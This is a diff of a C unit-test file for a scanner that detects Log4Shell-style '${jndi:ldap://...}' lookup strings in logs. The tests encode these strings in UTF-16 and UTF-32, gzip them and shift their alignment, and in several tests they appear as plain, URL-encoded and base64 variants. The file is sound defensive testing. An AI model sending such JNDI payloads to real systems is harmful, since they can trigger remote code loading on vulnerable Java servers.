@@ -346,69 +346,126 @@ static void depth_is_told(void **state)
 
 /* --- UTF-16 */
 
-static void put_unit(struct buf *b, uint32_t unit, bool big)
+/* A form of wide text: bytes of a unit, its order, and what stands before the first. */
+static const struct form {
+    const char *name;
+    size_t width;
+    bool big, marked;
+} wide[] = {
+    {"utf-16-le", 2, false, true},   {"utf-16-be", 2, true, true},
+    {"utf-32-le", 4, false, true},   {"utf-32-be", 4, true, true},
+    {"bare 16-le", 2, false, false}, {"bare 16-be", 2, true, false},
+    {"bare 32-le", 4, false, false}, {"bare 32-be", 4, true, false},
+};
+
+static void put_unit(struct buf *b, const struct form *f, uint32_t unit)
 {
-    uint8_t high = (uint8_t)(unit >> 8), low = (uint8_t)unit;
-    (void)buf_add(b, big ? (uint8_t[]){high, low} : (uint8_t[]){low, high}, 2);
+    for (size_t i = 0; i < f->width; i++)
+        (void)buf_add_char(b, (char)(unit >> 8 * (f->big ? f->width - 1 - i : i)));
 }
 
-static void utf16_logs(void **state)
+static void put_mark(struct buf *b, const struct form *f)
+{
+    if (f->marked)
+        put_unit(b, f, 0xfeff);
+}
+
+static void put_wide(struct buf *b, const struct form *f, const char *text)
+{
+    for (const char *p = text; *p; p++)
+        put_unit(b, f, (uint8_t)*p);
+}
+
+static void wide_logs(void **state)
 {
     (void)state;
     static const char line[] = "a\n%24%7bjndi:ldap://h/a}\n";
-    for (int big = 0; big < 2; big++) {
+    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
+        const struct form *f = &wide[k];
         struct buf b, packed;
         buf_init(&b, MIB(8));
         buf_init(&packed, MIB(8));
-        put_unit(&b, 0xfeff, big);
-        for (const char *p = line; *p; p++)
-            put_unit(&b, (uint8_t)*p, big);
-        assert_found(buf_slice(&b), "", "utf-16", "-");
+        put_mark(&b, f);
+        put_wide(&b, f, line);
+        assert_false(text_is_plain(buf_slice(&b)));
+        assert_found(buf_slice(&b), "", f->name, "-");
         pack_gzip(buf_slice(&b), &packed);
-        assert_found(buf_slice(&packed), "", "utf-16", "gzip");
+        assert_found(buf_slice(&packed), "", f->name, "gzip");
         for (size_t cut = 0; cut < b.n; cut++) /* whatever is missing */
             (void)search(slice_sub(buf_slice(&b), 0, cut), false, NULL);
-        /* halves of pairs, and text longer than any buffer */
+        if (!f->marked)
+            for (size_t i = 0; i < 256; i++)
+                put_unit(&b, f, ' ');
+        /* pairs and halves of them, no characters, and text longer than any buffer */
         for (uint32_t i = 0; i < 200000; i++)
-            put_unit(&b,
+            put_unit(&b, f,
                      i % 7 == 0    ? 0xd83d
                      : i % 7 == 1  ? 0xdd25
                      : i % 11 == 0 ? 0xdc00
-                                   : 0x3042,
-                     big);
-        for (const char *p = line; *p; p++)
-            put_unit(&b, (uint8_t)*p, big);
+                     : i % 13 == 0 ? 0xffffffff
+                                   : 0x3042);
+        put_wide(&b, f, line);
         struct seen s = search(buf_slice(&b), true, NULL);
-        assert_int_equal(s.hits, 2);
-        assert_int_equal(s.line, 4);
+        if (s.hits != 2 || s.line != 4)
+            fail_msg("%s: %zu, line %llu", f->name, s.hits, (unsigned long long)s.line);
         buf_done(&b);
         buf_done(&packed);
     }
 }
 
-/* Who writes a mark and NULs into a log of bytes hides nothing in it. */
-static void bytes_behind_a_mark(void **state)
+/* Without a mark most of the first units, and eight of them, must be of a text. */
+static void wide_at_its_fewest(void **state)
+{
+    (void)state;
+    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
+        const struct form *f = &wide[k];
+        struct buf b;
+        buf_init(&b, KIB(4));
+        if (f->marked)
+            continue;
+        put_wide(&b, f, "${jndi:");
+        assert_true(text_is_plain(buf_slice(&b)));
+        put_wide(&b, f, "x");
+        assert_false(text_is_plain(buf_slice(&b)));
+        assert_int_equal(search(buf_slice(&b), true, NULL).hits, 1);
+        for (size_t i = 0; i < 7; i++)
+            put_unit(&b, f, 1);
+        assert_false(text_is_plain(buf_slice(&b)));
+        put_unit(&b, f, 1);
+        assert_true(text_is_plain(buf_slice(&b)));
+        buf_done(&b);
+    }
+    assert_true(text_is_plain(SLICE_LIT("a\0b\0c\0GET / HTTP/1.1\n")));
+}
+
+/* Whoever writes the first bytes does not hide what stands behind them, at any alignment. */
+static void bytes_behind_wide(void **state)
 {
     (void)state;
     static const char *const payloads[] = {"${jndi:ldap://h/a}", "%24%7bjndi:ldap://h/a}",
                                            "\x01${jndi:ldap://h/a}\x01",
                                            "JHtqbmRpOmxkYXA6Ly9oL2F9JHtqbmRpOmxkYXA6Ly9oL2F9"};
-    static const char *const marks[] = {"\xff\xfe", "\xfe\xff"};
-    for (size_t mark = 0; mark < 2; mark++) {
+    for (size_t k = 0; k < ARRAY_LEN(wide); k++) {
         for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
-            for (size_t shift = 0; shift < 6; shift++) {
+            for (size_t shift = 0; shift < 8; shift++) {
                 struct buf b;
                 buf_init(&b, MIB(1));
-                (void)buf_add_str(&b, marks[mark]);
-                for (int k = 0; k < 100; k++)
-                    (void)buf_add(&b, "a\0", 2);
-                (void)buf_add(&b, "\n\0\n\0abcdef\0", shift);
+                put_mark(&b, &wide[k]);
+                for (int n = 0; n < 200; n++)
+                    put_unit(&b, &wide[k], 'a');
+                (void)buf_add(&b, "\n\0\n\0abcdefg\0", shift);
                 (void)buf_add_str(&b, "\nGET /");
                 (void)buf_add_str(&b, payloads[i]);
-                (void)buf_add(&b, " \0 HTTP\n", 8);
+                /* the end of a unit is the end of the text */
                 struct seen s = search(buf_slice(&b), true, NULL);
                 if (s.hits != 1)
-                    fail_msg("mark %zu, %s, %zu: %zu", mark, payloads[i], shift, s.hits);
+                    fail_msg("%s, %s, %zu: %zu at the end", wide[k].name, payloads[i], shift,
+                             s.hits);
+                (void)buf_add(&b, " \0 HTTP\n\0", 9);
+                put_wide(&b, &wide[k], "\n${jndi:ldap://h/a}\n");
+                s = search(buf_slice(&b), true, NULL);
+                if (s.hits != 2)
+                    fail_msg("%s, %s, %zu: %zu", wide[k].name, payloads[i], shift, s.hits);
                 buf_done(&b);
             }
         }
@@ -418,9 +475,10 @@ static void bytes_behind_a_mark(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(each_in_each),    cmocka_unit_test(cut_at_every_byte),
-        cmocka_unit_test(limits_are_told), cmocka_unit_test(depth_is_told),
-        cmocka_unit_test(utf16_logs),      cmocka_unit_test(bytes_behind_a_mark),
+        cmocka_unit_test(each_in_each),      cmocka_unit_test(cut_at_every_byte),
+        cmocka_unit_test(limits_are_told),   cmocka_unit_test(depth_is_told),
+        cmocka_unit_test(wide_logs),         cmocka_unit_test(wide_at_its_fewest),
+        cmocka_unit_test(bytes_behind_wide),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
